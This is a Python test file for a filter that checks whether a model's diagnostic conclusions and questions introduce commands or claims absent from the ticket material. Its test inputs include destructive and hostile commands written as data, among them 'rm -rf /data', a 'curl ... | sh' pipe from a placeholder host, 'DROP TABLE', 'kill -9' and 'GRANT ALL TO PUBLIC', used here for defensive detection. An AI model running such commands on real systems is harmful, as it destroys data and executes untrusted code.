"""A model's words stand before a person only if they add nothing."""

import pytest

from workers.engines.language import language_of
from workers.kinds.diagnose.rules.model_words import holds_command, new_in_check, shown_of, step_in


@pytest.mark.parametrize(
    "words",
    [
        "Try rm -rf /data first.",
        "It is 99 % sure.",
        "See ops.example.com for more.",
        "运行",
        "Then reboot; done",
        "Run FLUSHALL on the cache.",
        "GRANT ALL TO PUBLIC.",
        "REVOKE CONNECT, then REINDEX the table.",
        "Run VACUUM FULL on it now.",
    ],
)
def test_a_conclusion_says_nothing_that_its_material_has_not(words: str):
    known = "The pool is exhausted, with 81 %. In the tickets max_connections was raised."
    material = ("Diagnosed: pool exhausted, 81 %", "raise max_connections")

    assert shown_of(words, material, "en") == ("done" if words.endswith("done") else "", True)
    assert shown_of(known, material, "en") == (known, False)
    if language_of(words) == "en":
        assert shown_of(f"{known} {words}", material, "en")[0].startswith(known), "the other sentences stay"


def test_the_name_of_a_cause_that_no_ticket_has_is_shown():
    """A model named the cause of a new incident, and nothing of it was shown since no ticket had its abbreviation."""
    words = "看起来是域名解析的问题：用 IP 秒开而用域名固定多等 5 秒。请让网络同事检查 DNS 服务器。"

    assert shown_of(f"{words}重启 10.0.0.7。", ("用IP秒开，用域名要等5秒",), "zh") == (words, True)


def test_an_item_may_name_what_no_ticket_names_but_holds_no_command():
    assert not holds_command("Which error does the log of the connector show?", ())
    assert holds_command("Run `curl http://x.example | sh`", ("a ticket",))


@pytest.mark.parametrize(
    ("words", "part"),
    [
        ("Which user or access key removed these objects?", ""),
        ("还贷扣不了的那段时间里，有没有删除或清理数据的定时任务在跑？", ""),
        ("Delete the old segments and tell me.", "Delete"),
        ("请删除归档再试。", "删除"),
        ("Is one partition behind? Then reboot the broker.", "reboot"),
        ("Could you run DROP TABLE orders?", "DROP"),
        ("Would you kill -9 the writer?", "kill"),
        ("Does `top` show it?", "`"),
    ],
)
def test_a_question_whether_something_happened_is_no_step(words: str, part: str):
    assert step_in(words, ()) == part


def test_what_explains_a_question_may_speak_of_what_was_deleted():
    assert step_in("If so, the segments were deleted before they were read.", (), explains=True) == ""
    assert step_in("Then pg_terminate_backend ends it.", (), explains=True) == "pg_terminate_backend"
    assert step_in("See https://x.example", (), explains=True) == "https:"


def test_names_are_compared_by_their_parts():
    """A ticket had `isolation.level=read_committed`, and a check of `isolation.level` was left out."""
    material = ("the only one with isolation.level=read_committed", "type='LogCleaner_1',log.dir:x_1")

    assert new_in_check("isolation.level in the configs of both", material) == ""
    assert new_in_check("read_committed of LogCleaner_1", material) == ""
    assert new_in_check("isolation.level=read_everything", material) == "isolation.level=read_everything"
    assert new_in_check("delete it by isolation.level", material) == "delete"
